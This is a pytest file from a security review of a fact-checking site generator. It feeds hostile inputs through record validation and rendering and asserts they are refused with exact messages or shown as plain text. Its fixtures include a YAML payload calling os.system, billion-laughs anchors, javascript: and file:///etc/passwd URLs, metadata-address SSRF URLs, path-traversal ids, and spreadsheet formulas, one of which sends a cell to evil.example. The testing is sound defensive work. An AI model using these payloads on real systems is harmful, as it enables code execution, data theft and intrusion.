"""Section 5 of the security review: every hostile input, refused with its exact message
or rendered inert.

Refusals are checked one case at a time in process, then all at once through
`python -m generator check` (exit 1, no traceback, exactly these lines). Payloads that
are not refused go into every free-text field of a fixture desk and must come out as
text: HTML5-parsed, nothing off the allowlist, no event handler, no foreign scheme.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import time
import xml.etree.ElementTree as ET
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import hostile
import markdown
import pytest
import yaml
from conftest import FIXTURE_SITE, check, mkdocs_build, write

from generator import csp
from generator.export import FORMULA_START, claims_csv, export_files
from generator.load import parse_yaml
from generator.model import Corpus
from generator.render import MARKERS, Renderer
from generator.settings import read_settings
from generator.validate import Layout, load_corpus

SLUG_HINT = "must be a lowercase slug: a-z, 0-9 and inner hyphens, at most 64 characters"
URL_HINT = "must be an absolute http:// or https:// URL without spaces, quotes or angle brackets"
DATE_HINT = "must be a real date written YYYY-MM-DD"
CLAIM_FIELDS = (
    "article, claim, claimant, conclusion, corrections, entities, evidence_as_of, "
    "explanation, id, published, quote, reviewed, sources, verdict"
)
FILE_NAME = "file name must be a lowercase slug ending in .yaml (a-z, 0-9, hyphens)"
VERDICTS = "accurate, inaccurate, unproven"


# -- records to break ------------------------------------------------------------


def claim(name: str, *edits: tuple[str, str], append: str = "") -> str:
    """A valid claim named `name` (one field a line, see the line numbers), edited."""
    text = (
        f"id: {name}\n"  # 1
        "article: daily-2024-01-01-budget\n"  # 2
        "quote: Bus fares will be free from March\n"  # 3
        "claim: Bus fares will be free\n"  # 4
        "claimant: transport-office\n"  # 5
        "verdict: unproven\n"  # 6
        "conclusion: No decision was found.\n"  # 7
        "explanation: Nothing was published.\n"  # 8
        "sources:\n"  # 9
        "  - source: city-accounts-2023\n"  # 10
        "    stance: context\n"  # 11
        "    note: No budget line.\n"  # 12
        "published: 2024-02-01\n"  # 13
        "reviewed: 2024-02-01\n"  # 14
        "evidence_as_of: 2024-02-01\n"  # 15
    )
    for old, new in edits:
        assert old in text, old
        text = text.replace(old, new, 1)
    return text + append


def source(name: str, url: str = "https://example.org/report", append: str = "") -> str:
    return (
        f"id: {name}\ntitle: A report\npublisher: A publisher\nurl: {url}\nkind: report\n" + append
    )


def entity(name: str, append: str = "") -> str:
    return f"id: {name}\nname: Someone\nkind: person\ndescription: A fictional person.\n" + append


def article(name: str, append: str = "") -> str:
    return (
        f"id: {name}\ntitle: An article\npublication: example-daily\npublished: 2024-01-01\n"
        f"text: {name}.txt\n" + append
    )


def seed(lines: str) -> str:
    return "# A heading\n> Jan 1st 2024\n" + lines


Content = str | bytes | Callable[[Path, Path], None]
"""Text, bytes, or a function of (desk root, path) that makes the file itself."""


@dataclass(frozen=True)
class Case:
    number: str
    """The case in section 5 (1-66), with a letter when it has variants."""
    files: dict[str, Content]
    expected: list[str]
    alone: bool = False
    """Breaks the whole desk, so it cannot share a desk with the other cases."""

    def apply(self, root: Path) -> None:
        for relative, content in self.files.items():
            path = root / relative
            path.parent.mkdir(parents=True, exist_ok=True)
            if callable(content):
                content(root, path)
            elif isinstance(content, bytes):
                path.write_bytes(content)
            else:
                path.write_text(content, encoding="utf-8")


def one(number: str, kind: str, name: str, text: Content, *expected: str) -> Case:
    """A case of one record file; `expected` lines start after the file's path."""
    path = f"facts/{kind}/{name}.yaml"
    return Case(number, {path: text}, [f"{path}{line}" for line in expected])


def with_seed(number: str, name: str, text: Content, *expected: str) -> Case:
    """An article whose text file is `text`; `expected` lines are whole."""
    return Case(
        number,
        {f"facts/articles/{name}.yaml": article(name), f"seeds/{name}.txt": text},
        list(expected),
    )


def symlink_to_outside(root: Path, path: Path) -> None:
    outside = root.parent / f"outside-{path.name}"
    outside.write_text(entity(path.stem) if path.suffix == ".yaml" else seed("Secret.\n"))
    path.symlink_to(outside)


def fifo(root: Path, path: Path) -> None:
    os.mkfifo(path)


def folder_link(root: Path, path: Path) -> None:
    real = root.parent / f"real-{path.name}"
    shutil.move(path, real)
    path.symlink_to(real, target_is_directory=True)


def directory(root: Path, path: Path) -> None:
    path.mkdir()
    (path / "inner.yaml").write_text(entity("inner"))


def bomb() -> str:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for level in "bcdefghi":
        previous = chr(ord(level) - 1)
        lines.append(f"{level}: &{level} [{', '.join(['*' + previous] * 9)}]")
    return "\n".join(lines) + "\n"


def marker_command(root: Path, path: Path) -> None:
    marker = root / "pwned-by-yaml"
    command = f'explanation: !!python/object/apply:os.system ["touch {marker}"]'
    path.write_text(claim(path.stem, ("explanation: Nothing was published.", command)))


def block_mapping(depth: int) -> str:
    """Block mappings nested `depth` deep, one space of indent a level."""
    return "".join(" " * i + f"k{i}:\n" for i in range(depth)) + " " * depth + "v: x\n"


LONG_URL = "https://example.org/" + "a" * 1981
assert len(LONG_URL) == 2001

REFUSED: list[Case] = [
    # A. YAML structure
    Case("1", {"facts/claims/a01-python-object.yaml": marker_command}, [
        "facts/claims/a01-python-object.yaml:8: explicit tags "
        "(tag:yaml.org,2002:python/object/apply:os.system) are not allowed"]),
    one("2a", "claims", "a02-python-name",
        claim("a02-python-name", ("explanation: Nothing was published.",
                                  "explanation: !!python/name:os.system")),
        ":8: explicit tags (tag:yaml.org,2002:python/name:os.system) are not allowed"),
    one("2b", "claims", "a02-python-tuple",
        claim("a02-python-tuple", ("conclusion: No decision was found.",
                                   "conclusion: !!python/tuple [1, 2]")),
        ":7: explicit tags (tag:yaml.org,2002:python/tuple) are not allowed"),
    one("3", "claims", "a03-billion-laughs",
        claim("a03-billion-laughs", ("id: a03-billion-laughs\n",
                                     "id: a03-billion-laughs\n" + bomb())),
        ":2: anchors (&a) are not allowed"),
    one("4", "claims", "a04-self-reference",
        claim("a04-self-reference", append="entities: &a [*a]\n"),
        ":16: anchors (&a) are not allowed"),
    one("5", "claims", "a05-anchor-alias",
        claim("a05-anchor-alias", ("claim: Bus fares will be free", 'claim: &c "Bus fares"'),
              ("explanation: Nothing was published.", "explanation: *c")),
        ":4: anchors (&c) are not allowed"),
    one("6", "claims", "a06-merge-key",
        claim("a06-merge-key", append="<<: {verdict: accurate}\n"),
        ":16: merge keys (<<) are not allowed"),
    one("7a", "claims", "a07-duplicate-false",
        claim("a07-duplicate-false", ("verdict: unproven", 'verdict: "false"\nverdict: "false"')),
        f":6: verdict must be one of: {VERDICTS}; got 'false'",
        ":7: duplicate key 'verdict'"),
    one("7b", "claims", "a07-verdict-flip",
        claim("a07-verdict-flip", ("verdict: unproven", "verdict: unproven\nverdict: accurate")),
        ":7: duplicate key 'verdict'"),
    *(
        one("8", "claims", f"a08-verdict-{word}",
            claim(f"a08-verdict-{word}", ("verdict: unproven", f"verdict: {word}")),
            f":6: verdict must be one of: {VERDICTS}; got '{word}'")
        for word in ("no", "yes", "on")
    ),
    *(
        one("13", "claims", f"a13-date-{n}",
            claim(f"a13-date-{n}", ("published: 2024-02-01", f"published: {date}")),
            f":13: published {DATE_HINT}; got '{date}'")
        for n, date in enumerate(("2024-02-30", "2024-13-01", "24-02-08"))
    ),
    one("14a", "claims", "a14-binary",
        claim("a14-binary", ("conclusion: No decision was found.", "conclusion: !!binary aGVsbG8=")),
        ":7: explicit tags (tag:yaml.org,2002:binary) are not allowed"),
    one("14b", "claims", "a14-set",
        claim("a14-set", append="entities: !!set {a}\n"),
        ":16: explicit tags (tag:yaml.org,2002:set) are not allowed"),
    one("14c", "claims", "a14-timestamp",
        claim("a14-timestamp", ("published: 2024-02-01", "published: !!timestamp 2024-02-01")),
        ":13: explicit tags (tag:yaml.org,2002:timestamp) are not allowed"),
    one("14d", "claims", "a14-include",
        claim("a14-include", ("explanation: Nothing was published.",
                              "explanation: !include secrets.env")),
        ":8: explicit tags (!include) are not allowed"),
    one("15", "claims", "a15-two-documents",
        claim("a15-two-documents", append="---\n" + claim("a15-two-documents")),
        ":16: more than one YAML document in the file"),
    one("16a", "claims", "a16-empty", "", ":1: empty document: the file holds no record"),
    one("16b", "claims", "a16-comments", "# nothing\n# here\n",
        ":1: empty document: the file holds no record"),
    one("17a", "claims", "a17-list", "- a\n- b\n",
        ":1: a claim record must be a mapping of fields, not a list"),
    one("17b", "claims", "a17-scalar", "just text\n",
        ":1: a claim record must be a mapping of fields, not text"),
    one("18a", "claims", "a18-depth-9",
        claim("a18-depth-9", append="corrections: [[[[[[[[x]]]]]]]]\n"),
        ":16: lists and mappings nested deeper than 8 levels"),
    one("18b", "claims", "a18-flow-5000", claim("a18-flow-5000", append="x: " + "[" * 5000 + "\n"),
        ":16: YAML syntax error: exceeded maximum nesting depth"),
    one("18c", "claims", "a18-block-300", claim("a18-block-300", append=block_mapping(300)),
        ":24: lists and mappings nested deeper than 8 levels"),
    # Depth 1000 needs half a megabyte of indentation: refused unread.
    one("18d", "claims", "a18-block-1000", claim("a18-block-1000", append=block_mapping(1000)),
        f": is {len(claim('a18-block-1000') + block_mapping(1000)):,} bytes; "
        "the limit is 65,536 bytes"),
    one("19", "claims", "a19-complex-key", claim("a19-complex-key", append="? [a, b]\n: c\n"),
        ":16: keys must be plain text"),
    one("20", "claims", "a20-tab",
        claim("a20-tab", ("    stance: context", "\tstance: context")),
        ":11: YAML syntax error: found a tab character that violates indentation"),
    one("21a", "claims", "a21-unknown-key", claim("a21-unknown-key", append="template: evil.html\n"),
        f":16: unknown field 'template'; allowed: {CLAIM_FIELDS}"),
    one("21b", "claims", "a21-missing-verdict", claim("a21-missing-verdict", ("verdict: unproven\n", "")),
        ":1: missing required field 'verdict'"),
    # B. Encoding and characters
    one("22", "claims", "b22-latin1",
        claim("b22-latin1", ("No decision", "No d\xe9cision")).encode("latin-1"),
        f":7: is not valid UTF-8 at byte {claim('b22-latin1').index('No decision') + 4}"),
    one("23a", "claims", "b23-utf8-bom", b"\xef\xbb\xbf" + claim("b23-utf8-bom").encode(),
        ":1: starts with a byte-order mark; save as UTF-8 without BOM"),
    one("23b", "claims", "b23-utf16-bom", claim("b23-utf16-bom").encode("utf-16"),
        ":1: starts with a byte-order mark; save as UTF-8 without BOM"),
    one("23c", "claims", "b23-utf16-no-bom", claim("b23-utf16-no-bom").encode("utf-16-le"),
        ":1: forbidden character U+0000 (a control character)"),
    one("24a", "claims", "b24-nul",
        claim("b24-nul", ("conclusion: No decision was found.", 'conclusion: "\\0"')),
        ":7: forbidden character U+0000 (a control character)"),
    one("24b", "claims", "b24-ansi",
        claim("b24-ansi", ("conclusion: No decision was found.",
                           'conclusion: "\\e[2J\\e[31mFAKE PASS"')),
        ":7: forbidden character U+001B (a control character)"),
    one("24c", "claims", "b24-ansi-raw",
        claim("b24-ansi-raw", ("No decision", "\x1b[2J\x1b[32mOK")),
        ":7: forbidden character U+001B (a control character)"),
    # The message quotes the bad id: the escape must not reach the terminal.
    one("24d", "claims", "b24-ansi-id", claim("b24-ansi-id", ("id: b24-ansi-id", 'id: "\\e[2J"')),
        ":1: forbidden character U+001B (a control character)",
        f":1: id {SLUG_HINT}; got '\\x1b[2J'"),
    with_seed("24e", "b24-ansi-seed", seed("Bus \x1b[31mfares.\n"),
              "seeds/b24-ansi-seed.txt:3: forbidden character U+001B (a control character)"),
    one("25a", "claims", "b25-rlo-escaped",
        claim("b25-rlo-escaped", ("claim: Bus fares will be free", 'claim: "Bus fares \\u202e free"')),
        ":4: forbidden character U+202E RIGHT-TO-LEFT OVERRIDE"),
    *(
        one("25b", "claims", f"b25-isolate-{char:x}",
            claim(f"b25-isolate-{char:x}", ("No decision", f"No {chr(char)}decision")),
            f":7: forbidden character U+{char:04X} {name}")
        for char, name in (
            (0x2066, "LEFT-TO-RIGHT ISOLATE"), (0x2067, "RIGHT-TO-LEFT ISOLATE"),
            (0x2068, "FIRST STRONG ISOLATE"), (0x2069, "POP DIRECTIONAL ISOLATE"),
        )
    ),
    with_seed("25c", "b25-rlo-seed", seed("Bus fares \u202ewill be free.\n"),
              "seeds/b25-rlo-seed.txt:3: forbidden character U+202E RIGHT-TO-LEFT OVERRIDE"),
    *(
        one("26a", "claims", f"b26-invisible-{char:x}",
            claim(f"b26-invisible-{char:x}", ("claim: Bus fares will be free",
                                               f'claim: "Bus fares\\u{char:04x} will be free"')),
            f":4: forbidden character U+{char:04X} {name}")
        for char, name in (
            (0x200B, "ZERO WIDTH SPACE"), (0x200D, "ZERO WIDTH JOINER"),
            (0xFEFF, "ZERO WIDTH NO-BREAK SPACE"),
        )
    ),
    one("26b", "claims", "b26-invisible-id",
        claim("b26-invisible-id", ("id: b26-invisible-id", 'id: "b26-invisible-id\\u200b"')),
        ":1: forbidden character U+200B ZERO WIDTH SPACE",
        f":1: id {SLUG_HINT}; got 'b26-invisible-id\\u200b'"),
    one("27a", "claims", "b27-surrogate-escape",
        claim("b27-surrogate-escape", ("conclusion: No decision was found.",
                                       'conclusion: "\\ud800"')),
        ":7: YAML syntax error: found invalid Unicode character escape code"),
    one("27b", "claims", "b27-surrogate-bytes",
        claim("b27-surrogate-bytes", ("No decision", "No XXX")).encode().replace(b"XXX", b"\xed\xa0\x80"),
        f":7: is not valid UTF-8 at byte {claim('b27-surrogate-bytes').index('No decision') + 3}"),
    one("28a", "claims", "b28-nfd-escaped",
        claim("b28-nfd-escaped", ("conclusion: No decision was found.", 'conclusion: "cafe\\u0301"')),
        ":7: text must be in Unicode NFC form (composed characters)"),
    one("28b", "claims", "b28-nfd-raw", claim("b28-nfd-raw", ("No decision", "No de\u0301cision")),
        ":7: text must be in Unicode NFC form (composed characters)"),
    with_seed("28c", "b28-nfd-seed", seed("The cafe\u0301 opened.\n"),
              "seeds/b28-nfd-seed.txt:3: text must be in Unicode NFC form (composed characters)"),
    one("29a", "claims", "b29-oversized", claim("b29-oversized", append="#" * 70_000 + "\n"),
        f": is {len(claim('b29-oversized')) + 70_001:,} bytes; the limit is 65,536 bytes"),
    one("29b", "claims", "b29-long-explanation",
        claim("b29-long-explanation", ("explanation: Nothing was published.",
                                       "explanation: " + "x" * 20_001)),
        ":8: explanation is 20,001 characters long; the limit is 20,000"),
    # C48. Markdown the renderer would take too long or recurse too deep on
    *(
        one("48", "claims", f"c48-{name}",
            claim(f"c48-{name}", ("explanation: Nothing was published.",
                                  f"explanation: {json.dumps(text)}")),
            f":8: explanation: {message}")
        for name, text, message in (
            ("quotes", ">" * 10_000 + " x", "block quotes nested more than 20 deep"),
            ("lists", "- " * 5_000 + "x", "lists and block quotes nested more than 20 deep"),
            ("brackets", "[" * 19_000,
             "too many unclosed or nested [ brackets in one paragraph; "
             "close them or write \\[ for a literal bracket"),
            ("lines", "-\n" * 5_000,
             "a paragraph or list runs over 200 lines; separate it with blank lines"),
        )
    ),
    # D. URLs
    *(
        one(number, "sources", f"d{number}-{n}", source(f"d{number}-{n}", json.dumps(url)),
            f":4: url {URL_HINT}; got '{shown}'")
        for number, n, url, shown in (
            ("49", 0, "javascript:alert(1)", "javascript:alert(1)"),
            ("49", 1, " JaVaScRiPt:alert(1)", " JaVaScRiPt:alert(1)"),
            ("49", 2, "jav&#x61;script:alert(1)", "jav&#x61;script:alert(1)"),
            ("49", 3, "java\tscript:alert(1)", "java\\tscript:alert(1)"),
            ("50", 0, "data:text/html,<script>alert(1)</script>",
             "data:text/html,<script>alert(1)</script>"),
            ("50", 1, "vbscript:msgbox(1)", "vbscript:msgbox(1)"),
            ("50", 2, "file:///etc/passwd", "file:///etc/passwd"),
            ("51", 0, "//evil.example/", "//evil.example/"),
            ("53", 0, 'https://example.org/" onmouseover=x', 'https://example.org/" onmouseover=x'),
            ("53", 1, "https://example.org/a b", "https://example.org/a b"),
            ("53", 2, "https://example.org/<script>", "https://example.org/<script>"),
            ("53", 3, "https://example.org/`x`", "https://example.org/`x`"),
        )
    ),
    one("52", "sources", "d52", source("d52", "https://user:pw@example.org/"),
        ":4: url must not contain a user name or password"),
    *(
        one("54", "sources", f"d54-{n}", source(f"d54-{n}", json.dumps(url)),
            ":4: url points at a private or local address")
        for n, url in enumerate((
            "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:8751/", "http://10.0.0.1/",
            "http://127.1/", "http://0x7f.0.0.1/", "http://0177.0.0.1/", "http://2130706433/",
            "http://[::1]/", "http://[::ffff:127.0.0.1]/", "http://foo.localhost/",
        ))
    ),
    one("54", "sources", "d54-localhost", source("d54-localhost", "http://localhost./"),
        ":4: url must name a public host"),
    one("54", "sources", "d54-archived",
        source("d54-archived", append="archived_url: http://192.168.1.1/copy\n"),
        ":6: archived_url points at a private or local address"),
    one("54", "entities", "d54-entity", entity("d54-entity", append="url: http://10.1.2.3/\n"),
        ":5: url points at a private or local address"),
    Case("54", {"facts/articles/d54-article.yaml": article("d54-article", "url: http://127.0.0.1/a\n"),
                "seeds/d54-article.txt": seed("Text.\n")},
         ["facts/articles/d54-article.yaml:6: url points at a private or local address"]),
    one("54", "claims", "d54-explanation-link",
        claim("d54-explanation-link", ("explanation: Nothing was published.",
                                       "explanation: See [this](http://169.254.169.254/latest).")),
        ":8: explanation: link http://169.254.169.254/latest points at a private or local address"),
    one("54", "sources", "d54-bad-brackets", source("d54-bad-brackets", '"http://[::1/"'),
        ":4: url has a host name that is not valid"),
    one("55", "sources", "d55", source("d55", "https://аpple.com/"),
        ":4: url must write its host in ASCII (punycode): xn--pple-43d.com"),
    one("55", "claims", "d55-explanation-link",
        claim("d55-explanation-link", ("explanation: Nothing was published.",
                                       "explanation: See [Apple](https://аpple.com/).")),
        ":8: explanation: link https://аpple.com/ must write its host in ASCII (punycode): "
        "xn--pple-43d.com"),
    one("56", "sources", "d56", source("d56", LONG_URL),
        ":4: url is 2,001 characters long; the limit is 2,000"),
    # E. ids, file names, collisions
    *(
        one("57", "claims", f"e57-{n}", claim(f"e57-{n}", (f"id: e57-{n}", f"id: {json.dumps(bad)}")),
            *extra, f":1: id {SLUG_HINT}; got '{shown}'")
        for n, bad, shown, extra in (
            (0, "../about", "../about", ()),
            (1, "../../x", "../../x", ()),
            (2, "/etc/cron.d/x", "/etc/cron.d/x", ()),
            (3, "a\0b", "a\\x00b", (":1: forbidden character U+0000 (a control character)",)),
            (4, "a/b", "a/b", ()),
        )
    ),
    one("57", "claims", "e57-claimant", claim("e57-claimant", ("claimant: transport-office",
                                                               "claimant: ../about")),
        f":5: claimant {SLUG_HINT}; got '../about'"),
    Case("57", {"facts/articles/e57-text.yaml": article("e57-text").replace(
        "text: e57-text.txt", "text: ../../etc/passwd")},
        ["facts/articles/e57-text.yaml:5: text must be the name of a .txt file in seeds/, "
         "such as my-article.txt; got '../../etc/passwd'"]),
    *(
        one("58", "claims", name, claim(name), f":1: id '{name}' is reserved; choose another")
        for name in ("con", "nul", "com1", "lpt9", "index", "search", "assets", "404")
    ),
    *(
        Case("58" if name == "CON" else "59",
             {f"facts/claims/{name}.yaml": claim("x")}, [f"facts/claims/{name}.yaml: {FILE_NAME}"])
        for name in ("CON", "Claim-A", "clаim", "café", ".hidden", "trail. ", "", "x" * 200)
    ),
    one("59", "claims", "e59-upper", claim("e59-upper", ("id: e59-upper", "id: Claim-A")),
        f":1: id {SLUG_HINT}; got 'Claim-A'"),
    Case("60", {"facts/claims/e60-first.yaml": claim("e60-first"),
                "facts/claims/e60-second.yaml": claim("e60-first")},
         ["facts/claims/e60-second.yaml:1: id 'e60-first' must equal the file name 'e60-second'"]),
    Case("62", {"facts/Foo.yaml": entity("foo")}, [
        "facts/Foo.yaml: unexpected entry in facts/; expected articles, claims, sources, "
        "entities, scale.yaml"]),
    *(
        Case("62", {f"facts/entities/{name}": entity("foo")}, [f"facts/entities/{name}: {FILE_NAME}"])
        for name in ("Foo.yaml", "notes.txt", "e62.yml", "e62.yaml.bak")
    ),
    Case("63", {"facts/entities/e63-link.yaml": symlink_to_outside},
         ["facts/entities/e63-link.yaml: is a symbolic link; records must be regular files"]),
    Case("63", {"facts/entities/e63-fifo.yaml": fifo},
         ["facts/entities/e63-fifo.yaml: is not a regular file"]),
    Case("63", {"facts/entities/e63-folder.yaml": directory},
         ["facts/entities/e63-folder.yaml: is not a regular file"]),
    Case("63", {"facts/articles/e63-seed-link.yaml": article("e63-seed-link"),
                "seeds/e63-seed-link.txt": symlink_to_outside},
         ["seeds/e63-seed-link.txt: is a symbolic link; records must be regular files"]),
    Case("63", {"facts/articles/e63-seed-fifo.yaml": article("e63-seed-fifo"),
                "seeds/e63-seed-fifo.txt": fifo},
         ["seeds/e63-seed-fifo.txt: is not a regular file"]),
    # File names are echoed too; they must not carry escapes or invalid UTF-8 out.
    Case("63", {"facts/entities/\x1b[2J\nx.yaml": entity("x")},
         [f"facts/entities/\\x1b[2J\\nx.yaml: {FILE_NAME}"]),
    Case("63", {os.fsdecode(b"facts/entities/\xff.yaml"): entity("x")},
         [f"facts/entities/\\udcff.yaml: {FILE_NAME}"]),
    # E2. Provenance fields come from git, never from the record
    *(
        one("65", "claims", f"e65-{n}", claim(f"e65-{n}", append=f"{field}: {value}\n"),
            f":16: unknown field '{field}'; allowed: {CLAIM_FIELDS}")
        for n, (field, value) in enumerate((
            ("reviewed_by", "Jane Editor"), ("history", "[]"), ("dateModified", "2024-03-01"),
            ("corrected", "true"),
        ))
    ),
    with_seed("66", "e66-huge-seed", "<script>alert(1)</script>\n" * 201_650,
              "seeds/e66-huge-seed.txt: is 5,242,900 bytes; the limit is 1,048,576 bytes"),
    # Whole folders that are links: each breaks the desk, so they run alone.
    Case("63", {"facts": folder_link}, ["facts: is a symbolic link; use a real folder"], alone=True),
    Case("63", {"facts/claims": folder_link},
         ["facts/claims: is a symbolic link; use a real folder"], alone=True),
    Case("63", {"seeds": folder_link}, ["seeds: is a symbolic link; use a real folder"], alone=True),
]  # fmt: skip


def case_id(case: Case) -> str:
    paths = ",".join(case.files)
    return f"{case.number}:{paths[:60]}"


def problems(root: Path) -> list[str]:
    corpus, found = load_corpus(Layout(root))
    assert (corpus is None) == bool(found)
    return [str(p) for p in found]


@pytest.mark.parametrize("case", REFUSED, ids=case_id)
def test_refused_with_exact_messages(site: Path, case: Case) -> None:
    case.apply(site)
    if case.alone:
        result = check(site)
        assert (result.returncode, result.stdout.splitlines()) == (1, case.expected)
        assert "Traceback" not in result.stderr
    else:
        assert problems(site) == case.expected


def test_check_refuses_every_case_at_once(site: Path) -> None:
    """`python -m generator check` prints exactly the union of the cases' lines."""
    for case in REFUSED:
        if not case.alone:
            case.apply(site)
    expected = sorted(line for case in REFUSED if not case.alone for line in case.expected)
    result = check(site)
    assert result.returncode == 1
    assert "Traceback" not in result.stdout + result.stderr
    assert sorted(result.stdout.splitlines()) == expected
    assert result.stderr == f"{len(expected)} problem(s) found.\n"
    assert not (site / "pwned-by-yaml").exists()  # case 1: nothing ran


def test_github_annotations_cannot_be_forged_by_a_file_name(site: Path) -> None:
    REFUSED_BY_NAME = next(c for c in REFUSED if "\x1b[2J\nx.yaml" in "".join(c.files))
    REFUSED_BY_NAME.apply(site)
    result = check(site, "--format", "github")
    assert result.stdout == (f"::error file=facts/entities/\\x1b[2J\\nx.yaml::{FILE_NAME}\n")


def test_billion_laughs_is_refused_in_under_100_ms() -> None:
    text = claim("a03", ("id: a03\n", "id: a03\n" + bomb()))
    start = time.perf_counter()
    document, found = parse_yaml(text, "f.yaml")
    assert time.perf_counter() - start < 0.1
    assert (document, [str(p) for p in found]) == (None, ["f.yaml:2: anchors (&a) are not allowed"])


def test_yaml_code_execution_leaves_no_trace(site: Path) -> None:
    """Case 1 through the real command: refused, and the command never ran."""
    REFUSED[0].apply(site)
    result = check(site)
    assert result.returncode == 1
    assert not (site / "pwned-by-yaml").exists()


# -- accepted as text -------------------------------------------------------------


def test_case_9_unquoted_true_is_the_string_true(site: Path) -> None:
    scale = site / "facts/scale.yaml"
    scale.write_text(
        scale.read_text()
        + "  - id: true\n    label: Yes indeed\n    definition: D.\n    icon: check\n"
        + '    colour: "#000000"\n'
    )
    write(site / "facts/claims/a09.yaml", claim("a09", ("verdict: unproven", "verdict: true")))
    corpus, found = load_corpus(Layout(site))
    assert found == []
    assert corpus.claims["a09"].verdict == "true"
    assert corpus.scale.get("true").label == "Yes indeed"


def test_case_10_norway_stays_no(site: Path) -> None:
    write(
        site / "facts/entities/a10.yaml",
        "id: a10\nname: NO\nkind: place\ndescription: off\naliases: [NO, yes, on, ~, null]\n",
    )
    corpus, found = load_corpus(Layout(site))
    assert found == []
    norway = corpus.entities["a10"]
    assert (norway.name, norway.description) == ("NO", "off")
    assert norway.aliases == ("NO", "yes", "on", "~", "null")


def test_case_11_numbers_and_times_stay_exactly_as_written(site: Path) -> None:
    write(
        site / "facts/sources/a11.yaml",
        "id: a11\ntitle: 1.10\npublisher: 0777\nurl: https://example.org/\nkind: report\n"
        "description: 01234\nmirror_of: 12:30\n",
    )
    write(site / "facts/entities/a11.yaml", entity("a11").replace("Someone", ".nan"))
    corpus, found = load_corpus(Layout(site))
    assert found == []
    a11 = corpus.sources["a11"]
    assert (a11.title, a11.publisher, a11.description, a11.mirror_of) == (
        "1.10", "0777", "01234", "12:30",
    )  # fmt: skip
    assert corpus.entities["a11"].name == ".nan"


def test_case_12_unquoted_dates_are_strings(site: Path) -> None:
    corpus, found = load_corpus(Layout(site))
    assert found == []
    claim_ = corpus.claims["parks-spending"]
    assert [type(d) for d in (claim_.published, claim_.reviewed)] == [str, str]
    assert claim_.published == "2024-02-01"


# -- rendered inert -----------------------------------------------------------------


def render(root: Path) -> tuple[Corpus, Renderer]:
    corpus, found = load_corpus(Layout(root))
    assert found == []
    return corpus, Renderer(corpus, read_settings(root / "mkdocs.yml"))


def inert(corpus: Corpus, renderer: Renderer) -> None:
    """Every page and fragment passes `content_problems`; front matter is escaped."""
    pages = renderer.pages()
    for key, page in pages.items():
        claim_page = key.startswith("claims/") and not key.endswith("/index")
        assert hostile.content_problems(page.html, claim_page=claim_page) == [], key
        front = yaml.safe_load(page.front_matter().split("---")[1])
        assert "<" not in page.front_matter() and ">" not in page.front_matter(), key
        assert front["title"] == hostile.escape(page.title), key
        assert front["description"] == hostile.escape(page.description), key
    for name in MARKERS:
        html = renderer.fragment(name, "index")
        assert hostile.content_problems(html, claim_page=False) == [], name


@pytest.mark.parametrize("case", list(hostile.PAYLOADS), ids=str)
def test_payload_is_inert_in_every_free_text_field(site: Path, case: str) -> None:
    payload = hostile.PAYLOADS[case]
    hostile.fill_desk(site, {case: payload})
    corpus, renderer = render(site)
    inert(corpus, renderer)
    name = hostile.slug(case)
    pages = renderer.pages()
    # Plain-text fields show the payload as the very characters written.
    shown = hostile.norm(payload)
    for key in (f"claims/{name}-claim", f"entities/{name}-entity", f"sources/{name}-source",
                f"articles/{name}-article", "claims/index", "sources/index", "entities/index",
                "corrections/index"):  # fmt: skip
        assert shown in hostile.text_of(pages[key].html), key
    page = pages[f"claims/{name}-claim"]
    assert (page.title, page.description) == (payload, payload)
    tree = hostile.parse_fragment(page.html)
    (script,) = [e for e in tree.iter() if e.tag == "script"]
    review = json.loads(script.text)
    assert review["claimReviewed"] == payload
    assert review["reviewRating"]["ratingExplanation"] == payload
    # The open data carries the text unchanged, and the feed stays well-formed XML.
    files = export_files(corpus, renderer.settings)
    data = json.loads(files["data/claims.json"])
    assert next(c for c in data["claims"] if c["id"] == f"{name}-claim")["claim"] == payload
    feed = ET.fromstring(files["data/feed.xml"].encode())
    titles = [e.text for e in feed.iter("{http://www.w3.org/2005/Atom}title")]
    assert f"Corrected: {payload}" in titles


@pytest.mark.parametrize("case", ["30-script", "43-title-sink", "46-json-ld", "42-mxss-math"])
def test_payload_is_inert_in_the_rating_scale(site: Path, case: str) -> None:
    hostile.fill_scale(site, hostile.PAYLOADS[case])
    inert(*render(site))


def test_case_40_snippet_lines_stay_text(site: Path) -> None:
    hostile.fill_desk(site, {"40-snippets": hostile.PAYLOADS["40-snippets"]})
    _, renderer = render(site)
    html = renderer.pages()["claims/p40-snippets-claim"].html
    assert '--8&lt;-- "secrets.env"' in html


def test_case_41_template_syntax_is_shown_literally(site: Path) -> None:
    hostile.fill_desk(site, {"41-jinja": hostile.PAYLOADS["41-jinja"]})
    _, renderer = render(site)
    for key, page in renderer.pages().items():
        if "p41" in key:
            assert "{{ 7*7 }}" in hostile.text_of(page.html), key
            assert "49" not in hostile.text_of(page.html), key


def test_case_48_deep_emphasis_renders_quickly_and_inert(site: Path) -> None:
    text = "*" * 5_000 + "x" + "*" * 4_999
    hostile.fill_desk(site, {"48": "x"})
    path = site / "facts/claims/p48-claim.yaml"
    path.write_text(
        path.read_text().replace('explanation: "x"', f"explanation: {json.dumps(text)}")
    )
    start = time.process_time()
    inert(*render(site))
    assert time.process_time() - start < 5


def test_case_64_spreadsheet_formulas_are_quoted_in_the_csv(site: Path) -> None:
    formulas = {
        "claim": '=HYPERLINK("https://evil.example/?d="&A1,"source")',
        "conclusion": "+1+cmd|' /C calc'!A0",
        "name": "@SUM(1+1)",
        "title": "-2+3",
    }
    hostile.fill_desk(site, {"64": "x"})
    for path, field, value in (
        ("facts/claims/p64-claim.yaml", "claim", formulas["claim"]),
        ("facts/claims/p64-claim.yaml", "conclusion", formulas["conclusion"]),
        ("facts/entities/p64-entity.yaml", "name", formulas["name"]),
        ("facts/articles/p64-article.yaml", "title", formulas["title"]),
    ):
        text = (site / path).read_text()
        (site / path).write_text(text.replace(f'{field}: "x"', f"{field}: {json.dumps(value)}"))
    corpus, renderer = render(site)
    rows = list(csv.DictReader(io.StringIO(claims_csv(corpus, renderer.settings))))
    row = next(r for r in rows if r["id"] == "p64-claim")
    assert row["claim"] == "'" + formulas["claim"]
    assert row["conclusion"] == "'" + formulas["conclusion"]
    assert row["claimant_name"] == "'" + formulas["name"]
    assert row["article_title"] == "'" + formulas["title"]
    for cells in rows:
